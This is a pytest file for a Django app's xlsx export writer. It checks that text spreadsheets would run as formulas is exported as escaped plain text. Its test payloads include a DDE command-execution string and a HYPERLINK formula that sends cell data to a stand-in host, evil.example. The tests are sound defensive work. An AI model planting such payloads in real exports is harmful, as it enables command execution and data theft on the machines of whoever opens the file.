"""The one xlsx writer: text that a spreadsheet would run as a formula comes out as plain text, in
every export (API ``?format=xlsx``, committees' and projects' admin exports)."""

import datetime
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from committees.exports import committees_xlsx, firms_xlsx
from committees.models import Committee, PropertyFirm
from core.api.renderers import XlsxRenderer
from core.xlsx import Sheet, safe_text, unescape_text, workbook_bytes, write_xlsx, xlsx_response
from organizations import services as org_services
from projects import export as project_export
from projects import services as project_services
from projects.models import ResidentRequest
from tests.committees.helpers import firm, owners_committee

CALC = "=cmd|' /C calc'!A0"
LINK = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
# (A carriage return is normalised to a line feed by the XML, so it is checked on ``safe_text``.)
PAYLOADS = [CALC, LINK, "+1+1", "-2+3", "@SUM(1,1)", "\t=1"]


def _cells(content: bytes) -> list[tuple]:
    book = load_workbook(io.BytesIO(content))
    return [(c.value, c.data_type) for ws in book.worksheets for row in ws.iter_rows() for c in row]


def _assert_plain(content: bytes, payloads=PAYLOADS):
    cells = _cells(content)
    assert not [v for v, kind in cells if kind == "f"], "a formula cell was written"
    texts = {v for v, kind in cells if kind == "s"}
    for payload in payloads:
        assert "'" + payload in texts, payload


def test_writer_escapes_formula_triggers_and_keeps_types():
    rows = [[p, i] for i, p in enumerate(PAYLOADS)] + [
        ["13800001111", Decimal("1.5")],
        [None, datetime.date(2026, 5, 1)],
        ["bad\x01char", True],
    ]
    content = write_xlsx("测试", ["文本", "数值"], rows)
    _assert_plain(content)
    cells = _cells(content)
    assert ("13800001111", "s") in cells and (1.5, "n") in cells
    assert ("badchar", "s") in cells
    assert ("文本", "s") in cells  # the header row


def test_masks_apply_by_header_or_index_and_sheets_keep_order():
    content = workbook_bytes(
        [
            Sheet(
                title="名册",
                headers=["姓名", "身份证号"],
                rows=[["张三", "110101199003071234"]],
                masks={"身份证号": lambda v: v[:3] + "***"},
            ),
            Sheet(title="说明", headers=["列"], rows=[["=1"]], masks={0: lambda v: v + "+1"}),
        ]
    )
    book = load_workbook(io.BytesIO(content))
    assert book.sheetnames == ["名册", "说明"]
    assert book["名册"]["B2"].value == "110***"
    assert book["说明"]["A2"].value == "'=1+1"
    assert book["名册"].freeze_panes == "A2"


def test_carriage_return_is_a_trigger_too():
    assert safe_text("\r=1") == "'\r=1"


def test_unescape_is_the_inverse_for_importers():
    for payload in [*PAYLOADS, "'plain", "普通文本", ""]:
        assert unescape_text(safe_text(payload)) == payload.replace("\x01", "")
    assert unescape_text(5) == 5


def test_http_download_names_the_file_in_chinese():
    response = xlsx_response("党员名册.xlsx", "名册", ["a"], [[LINK]])
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    assert "UTF-8''%E5%85%9A" in response["Content-Disposition"]
    _assert_plain(response.content, [LINK])


def test_api_renderer_is_formula_safe():
    renderer = XlsxRenderer()
    columns = [("name", "名称"), ("note", "备注"), ("org", "组织")]
    data = {"results": [{"name": p, "note": [CALC, "x"], "org": {"id": 1, "name": LINK}} for p in PAYLOADS]}
    content = renderer.render(
        data, renderer_context={"xlsx_columns": columns, "xlsx_title": "导出", "xlsx_note": "=note"}
    )
    _assert_plain(content, [*PAYLOADS, "=note"])
    # A non-list payload (statistics) is flattened into item / value rows, just as safe.
    _assert_plain(renderer.render({"a": {"b": CALC}}, renderer_context={}), [CALC])


@pytest.mark.django_db
def test_committees_exports_are_formula_safe(tree):
    place = org_services.compound_save(name=CALC, community=tree["community_a"])
    owners_committee(place)
    firm(name=LINK, contact_person="+86 hacker")
    _assert_plain(committees_xlsx(Committee.objects.all()).content, [CALC])
    _assert_plain(firms_xlsx(PropertyFirm.objects.all()).content, [LINK, "+86 hacker"])


@pytest.mark.django_db
def test_projects_exports_are_formula_safe(tree):
    place = org_services.compound_save(name="A小区", community=tree["community_a"], branch=tree["branch_a"])
    project_services.request_submit(
        compound=place,
        category="facilities",
        description=LINK,
        resident_name="吴敏",
        received_on=datetime.date(2026, 6, 1),
    )
    rows = project_export.request_rows(ResidentRequest.objects.all())
    _assert_plain(xlsx_response("requests.xlsx", "群众点单", [str(i) for i in range(13)], rows).content, [LINK])
